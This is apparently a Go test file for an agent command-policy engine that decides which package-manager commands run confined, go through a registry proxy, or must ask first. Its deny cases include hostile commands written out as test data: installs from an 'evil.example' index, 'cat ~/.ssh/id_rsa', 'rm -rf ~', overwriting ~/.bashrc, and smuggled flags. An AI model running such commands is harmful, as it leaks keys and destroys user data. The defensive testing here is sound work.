package policy

import (
	"testing"

	"github.com/stretchr/testify/assert"

	"github.com/execgate/execgate/config"
)

// TestFetchersNeedTheNetwork: a package manager's install, add, update or
// publish needs its registry. Confined (no network) it ran unasked and
// could only fail, as git fetch did; now it asks, saying so, while the
// same programs' local work (tests, builds, scripts, listings) and their
// offline forms stay within the boundary.
func TestFetchersNeedTheNetwork(t *testing.T) {
	e := testEngine(t)
	pol := config.Policy{Security: config.SecurityAllowlist, Ask: config.AskOnMiss, AskFallback: config.SecurityDeny, TimeoutMs: 1000, AutoAllowSafe: true}
	needs := func(command string) Needs {
		t.Helper()
		res := e.Evaluate(Request{Command: command, Cwd: testWorkspace, Home: testHome, Policy: pol})
		return NeedsOf(res, testWorkspace, testHome)
	}
	for _, command := range []string{
		"npm install", "npm i", "npm ci", "npm install --save-dev @types/node", "npm publish", "npm update",
		"cd web && npm install", "timeout 300 npm ci", "yarn", "yarn add react", "pnpm install", "bun install",
		"pip install -e .", "pip install -r requirements.txt", "pip3 install requests", "python -m pip install -U pip",
		"python3 -m pip install -e '.[dev]'", "uv sync", "uv pip install -r requirements.txt", "poetry install",
		"tox -e py311", "pipx run black .",
		"go get github.com/google/go-cmp@latest", "go mod tidy", "go mod download",
		"cargo add serde --features derive", "cargo update -p regex", "cargo fetch",
		"gem install rake", "bundle install", "composer install", "brew install jq",
	} {
		n := needs(command)
		assert.True(t, n.Network, "%q: %+v", command, n)
		assert.False(t, n.Within(), "%q would run confined, where it can only fail on the network: %+v", command, n)
		assert.Contains(t, n.Summary(), "network", command)
	}
	for _, command := range []string{
		"npm test", "npm run build", "npm run install-deps", "npx jest", "yarn test", "yarn run lint", "pnpm test",
		"pip install --no-index dist/dateparse-1.2.0-py3-none-any.whl", "npm ci --offline", "cargo build --offline",
		"python -m pytest -q", "python3 -m pip --version", "pip install --help",
		"go test ./...", "go build ./...", "go mod graph", "go vet ./...", "cargo test", "cargo build --release",
		"make install-deps", "echo npm install", "grep -rn 'pip install' docs",
	} {
		n := needs(command)
		assert.False(t, n.Network, "%q: %+v", command, n)
	}
}

// TestDownloadsThroughAllowedHosts: for an agent that allows a registry's
// hosts, a download from it whose other needs fit the boundary runs
// confined, through the proxy; an upload, a download into a store other
// projects use, one that names another source or place, one next to
// anything else beyond the boundary, or one whose registry is not
// allowed, asks as before.
func TestDownloadsThroughAllowedHosts(t *testing.T) {
	e := testEngine(t)
	pol := config.Policy{Security: config.SecurityAllowlist, Ask: config.AskOnMiss, AskFallback: config.SecurityDeny, TimeoutMs: 1000, AutoAllowSafe: true}
	registries := []string{"pypi.org", "files.pythonhosted.org", "registry.npmjs.org"}
	needs := func(command string, hosts []string) Needs {
		t.Helper()
		res := e.Evaluate(Request{Command: command, Cwd: testWorkspace, Home: testHome, Policy: pol})
		return NeedsOf(res, testWorkspace, testHome).WithHosts(hosts, func(string) string { return "" })
	}
	for _, command := range []string{
		"npm install", "npm i", "npm ci", "npm install --save-dev @types/node", "cd web && npm install",
		"timeout 300 npm ci", "pip install -e .", "pip install -Ur requirements.txt", "npm install -DE left-pad", "pip install -r requirements.txt", "pip3 install requests",
		"python -m pip install -U pip", "python3 -m pip install -e '.[dev]'", ".venv/bin/pip install -e '.[dev]'",
		"uv sync", "uv pip install -r requirements.txt", "tox -e py311", "pip3.12 install requests",
		"pip install -r requirements.txt && python -m pytest -q", "npm ci && npm test",
		// npm's options before the command, with their values
		"npm --loglevel warn install", "npm --loglevel=warn ci", "npm -w web install left-pad", "npm --no-audit install",
		"npm --silent --workspace web ci", "npm --logl warn install", // npm expands --logl to --loglevel
	} {
		n := needs(command, registries)
		assert.True(t, n.Within(), "%q: %+v", command, n)
		assert.True(t, n.Proxied && n.RunCode && !n.Network, "%q: %+v", command, n)
		assert.Contains(t, n.Summary(), "downloads through the proxy", command)
		assert.False(t, needs(command, []string{"github.com"}).Within(), "%q with its registry not allowed", command)
		assert.False(t, needs(command, nil).Within(), "%q with no hosts", command)
	}
	for _, command := range []string{
		// uploads
		"npm publish", "npm unpublish pkg@1.0.0", "poetry publish", "pnpm publish", "yarn publish", "cargo publish",
		"gem push x.gem", "bun publish",
		// stores other projects build or run unchecked
		"go mod tidy", "go get github.com/google/go-cmp@latest", "cargo add serde", "cargo fetch", "yarn add react",
		"yarn", "pnpm install", "poetry install", "pipx install black", "pipx run black .", "bun install",
		"uv tool install ruff", "bundle install", "brew install jq",
		// another place or source
		"pip install --user requests", "npm install -g typescript", "npm install --global typescript",
		"npm install --prefix web", "pip install --target=/opt/x requests", "pip install -i https://evil.example/simple x",
		"pip install --index-url=https://evil.example/simple x", "pip install --extra-index-url https://e.example/simple x",
		"pip install git+https://github.com/a/b", "pip install https://e.example/x.whl", "npm install --registry=https://r.example",
		"npm install github:a/b#main", "uv pip install --system requests",
		// run together, or only known at run time
		"npm install -gf typescript", "npm i -Dg x", "pip install -Ut /opt/x requests", "pip install -qie.example/simple x",
		"npm -C /opt/web install", "npm --reg https://r.example install", "npm --userconfig /tmp/rc install",
		"npm --loglevel warn --prefix /opt/x install",
		"npm install $FLAGS x", "npm install $(echo -g) x", `pip install "$OPTS" requests`, "npm ci ${EXTRA}",
		// something else beyond the boundary too
		"npm install && curl https://example.com", "pip install x && cat ~/.ssh/id_rsa", "pip install x && rm -rf ~",
		"sudo pip install x", "npm install && git push", "pip install x > ~/.bashrc",
	} {
		n := needs(command, registries)
		assert.False(t, n.Within(), "%q runs confined through the proxy: %+v", command, n)
		assert.False(t, n.Proxied, "%q: %+v", command, n)
	}
	// A registry's token in the environment, or set by the command, keeps
	// it asking: what it installs could publish with it.
	for _, env := range []map[string]string{
		{"NPM_TOKEN": "npm_x"}, {"NODE_AUTH_TOKEN": "ghp_x"}, {"TWINE_PASSWORD": "pypi-x"},
		{"PIP_INDEX_URL": "https://me:tok@pypi.example.com/simple"},
		{"PIP_EXTRA_INDEX_URL": "https://pypi.org/simple https://me:tok@pypi.example.com/simple"},
	} {
		res := e.Evaluate(Request{Command: "npm ci && pip install -r requirements.txt", Cwd: testWorkspace, Home: testHome, Policy: pol})
		n := NeedsOf(res, testWorkspace, testHome).WithHosts(registries, func(k string) string { return env[k] })
		assert.False(t, n.Within(), "%v: %+v", env, n)
	}
	res := e.Evaluate(Request{Command: "pip install -r requirements.txt", Cwd: testWorkspace, Home: testHome, Policy: pol})
	n := NeedsOf(res, testWorkspace, testHome).WithHosts(registries, func(k string) string {
		return map[string]string{"PIP_INDEX_URL": "https://pypi.org/simple", "HOME": testHome}[k]
	})
	assert.True(t, n.Within(), "an index without a user in it: %+v", n)
	for _, command := range []string{"NPM_TOKEN=x npm ci", "export NODE_AUTH_TOKEN=x; npm ci", "env TWINE_PASSWORD=x pip install .",
		"PIP_INDEX_URL=https://me:x@p.example/simple pip install x"} {
		assert.False(t, needs(command, registries).Within(), command)
	}
	// What an upload or a registry action is said to do.
	assert.Contains(t, needs("npm publish", registries).Beyond, "npm publish acts as you on the npm registry, over the network")
	assert.Contains(t, needs("npm --loglevel warn publish", registries).Beyond, "npm publish acts as you on the npm registry, over the network")
	assert.Contains(t, needs("npm --tag beta publish", registries).Beyond, "npm publish acts as you on the npm registry, over the network")
	assert.Contains(t, needs("cargo yank --version 1.0.0", registries).Beyond, "cargo yank acts as you on crates.io, over the network")
	// Every confined download is a fetcher's.
	for key := range confinedFetches.all() {
		assert.True(t, fetchers.has(key), "%s is not a fetcher", key)
	}
}

// TestPythonOptionsBeforePip: python's own options before -m pip (-I,
// joined ones, -W's value) leave it pip: its download needs the network,
// and through the proxy it is held to what pip's is (its registry
// allowed, no other place, no token).
func TestPythonOptionsBeforePip(t *testing.T) {
	e := testEngine(t)
	pol := config.Policy{Security: config.SecurityAllowlist, Ask: config.AskOnMiss, AskFallback: config.SecurityDeny, TimeoutMs: 1000, AutoAllowSafe: true}
	registries := []string{"pypi.org", "files.pythonhosted.org", "registry.npmjs.org"}
	needs := func(command string, hosts []string, env map[string]string) Needs {
		t.Helper()
		res := e.Evaluate(Request{Command: command, Cwd: testWorkspace, Home: testHome, Policy: pol})
		return NeedsOf(res, testWorkspace, testHome).WithHosts(hosts, func(k string) string { return env[k] })
	}
	for _, python := range []string{"python3 -I -m pip", "python3 -Im pip", "python3 -mpip", "python3 -E -s -m pip",
		"python3 -W ignore -m pip", "python3 -Wignore -m pip", "python3 -X utf8 -m pip", "python3 -u -B -m pip",
		".venv/bin/python -I -m pip", "python3 --check-hash-based-pycs never -m pip"} {
		n := needs(python+" install requests", nil, nil)
		assert.True(t, n.Network, "%s install: %+v", python, n)
		assert.False(t, n.Within(), "%s install runs confined with no hosts", python)
		assert.True(t, needs(python+" install requests", registries, nil).Proxied, "%s install", python)
		for _, c := range []string{python + " install --user requests", python + " install -i https://e.example/simple x"} {
			assert.False(t, needs(c, registries, nil).Within(), c)
		}
		assert.False(t, needs(python+" install requests", registries, map[string]string{"TWINE_PASSWORD": "pypi-x"}).Within(),
			"%s install with a token in the environment", python)
	}
	for _, argv := range [][]string{{"-c", "import pip"}, {"script.py", "-m", "pip"}, {"--", "-m", "pip"}, {"-m"}, {"-Q", "-m", "pip"}} {
		_, _, ok := pythonModule(argv)
		assert.False(t, ok, "%q", argv)
	}
}
